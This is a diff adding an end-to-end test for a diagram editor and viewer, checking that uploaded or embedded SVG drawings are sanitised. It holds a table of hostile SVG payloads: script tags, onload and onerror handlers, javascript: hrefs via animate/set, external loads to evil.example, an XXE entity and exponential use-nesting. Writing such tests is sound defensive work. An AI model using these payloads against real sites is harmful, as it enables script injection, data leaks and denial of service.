@@ -1,0 +1,121 @@
+import { api, serverUrl, tokenFor } from '../support/api'
+import { expect, test } from '../support/test'
+import { storeView } from '../support/view'
+
+const svg = (inside: string, attributes = '') =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>` +
+  `<rect width="10" height="10" fill="#0a0"/>${inside}</svg>`
+const evil = 'https://evil.example/x'
+const flag = "parent.hacked=1;window.hacked=1;top.document.title='hacked'"
+
+/** Drawings that try to run something or to load something. */
+const hostile: Readonly<Record<string, string>> = {
+  script: svg(`<script>${flag}</script><script xlink:href="${evil}.js"/>`),
+  onload: svg(`<g onload="${flag}"/>`, `onload="${flag}"`),
+  foreignObject: svg(
+    `<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${evil}.png" onerror="${flag}"/><iframe src="${evil}"/></body></foreignObject>`,
+  ),
+  image: svg(
+    `<image href="${evil}.png" width="5" height="5"/><image xlink:href="${evil}.gif" width="5" height="5"/>`,
+  ),
+  use: svg(`<use href="${evil}.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/>`),
+  url: svg(
+    `<rect width="5" height="5" fill="url(${evil}#p)" style="mask:url('${evil}#m')" filter="url( ${evil}#f)"/>`,
+  ),
+  import: svg(
+    `<style>@import url(${evil}.css); rect{fill:u\\72l(${evil})} @font-face{font-family:a;src:url(${evil}.woff)}</style>`,
+  ),
+  animate: svg(
+    `<a><animate attributeName="href" values="javascript:${flag}"/><set attributeName="href" to="javascript:${flag}"/><text y="5">x</text></a>`,
+  ),
+  entity: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "${evil}">]>${svg('<text>&b;&x;</text>')}`,
+  uses: svg(
+    `<g id="u0"><rect width="1" height="1"/></g>${Array.from({ length: 30 }, (_, n) => `<g id="u${n + 1}"><use href="#u${n}"/><use href="#u${n}"/></g>`).join('')}`,
+  ),
+}
+
+test('a hostile drawing neither runs nor loads anything, uploaded or inside of a view', async ({
+  page,
+  signIn,
+}) => {
+  const admin = api(await tokenFor('demo', 'admin'))
+  const uploads: { name: string; url: string }[] = []
+  for (const [name, text] of Object.entries(hostile)) {
+    const data = Buffer.from(text).toString('base64')
+    const stored = await admin.post<{ url: string }>('/ml-mlink/view/image', { data }).catch(String)
+    if (typeof stored === 'string') expect(stored, name).toContain('不支持的图片')
+    else {
+      const clean = await (await fetch(serverUrl() + stored.url)).text()
+      expect(clean, name).not.toMatch(/evil|hacked|javascript|script|onload/i)
+      uploads.push({ name, url: stored.url })
+    }
+  }
+  expect(uploads.map(({ name }) => name)).not.toContain('entity')
+  expect(uploads.map(({ name }) => name)).not.toContain('uses')
+
+  const place = (index: number, row: number) => ({
+    x: 20 + index * 70,
+    y: 20 + row * 80,
+    width: 60,
+    height: 60,
+  })
+  const texts = Object.entries(hostile)
+  const address = (text: string) => `data:image/svg+xml,${encodeURIComponent(text)}`
+  const id = await storeView('e2e 恶意图形', {
+    pages: [
+      {
+        id: '图形',
+        items: [
+          ...texts.map(([name, text], index) => ({
+            id: `symbol-${name}`,
+            type: 'symbol',
+            svg: text,
+            ...place(index, 0),
+          })),
+          ...texts
+            .filter(([name]) => name !== 'uses')
+            .map(([name, text], index) => ({
+              id: `image-${name}`,
+              type: 'image',
+              imageUrl: address(text),
+              ...place(index, 1),
+            })),
+          ...uploads.map(({ name, url }, index) => ({
+            id: `upload-${name}`,
+            type: 'image',
+            imageUrl: url,
+            ...place(index, 2),
+          })),
+          { id: 'alive', type: 'text', content: 'alive', x: 20, y: 300, width: 200, height: 40 },
+        ],
+      },
+    ],
+  })
+
+  const foreign: string[] = []
+  page.context().on('request', (request) => {
+    if (request.url().includes('evil.example')) foreign.push(request.url())
+  })
+  await signIn('demo', 'admin')
+  for (const path of [`/zutai-viewer/${id}`, `/zutai-editor/${id}`]) {
+    const loaded = page.waitForResponse((response) => response.url().includes('/view/image?hash='))
+    await page.goto(path)
+    await loaded
+    await expect(page.locator('[data-item-id=alive]')).toContainText('alive')
+    await expect(page.locator('[data-item-id=symbol-script] image')).toHaveAttribute(
+      'href',
+      /^data:image\/svg/,
+    )
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
+    expect(await page.title()).not.toContain('hacked')
+    // nothing of a drawing is in the page itself
+    await expect(
+      page.locator('.schematic-stage :is(script, iframe, foreignObject body, animate, set, a)'),
+    ).toHaveCount(0)
+  }
+  for (const { url } of uploads) {
+    await page.goto(url)
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
+  }
+  expect(foreign).toEqual([])
+})
